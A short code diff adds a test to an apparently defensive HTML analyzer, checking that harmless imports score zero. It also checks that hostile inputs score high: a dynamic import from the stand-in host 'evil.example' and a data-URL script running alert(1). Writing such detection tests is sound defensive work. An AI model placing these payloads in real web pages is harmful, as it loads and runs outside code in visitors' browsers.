@@ -315,3 +315,10 @@ describe("html analyzer: a script element whose text cannot run", () => {
     }
   });
 });
+
+describe("html analyzer: a dynamic import of a bare module name", () => {
+  test("loads nothing in a page, and is how a Go import block reads", () => {
+    for (const v of ['import (\n\t"regexp"\n)', "import('x')"]) expect([v, top(v)]).toEqual([v, 0]);
+    for (const v of ["import('//evil.example/x.js')", 'import("data:text/javascript,alert(1)")']) expect([v, top(v) >= 0.5]).toEqual([v, true]);
+  });
+});
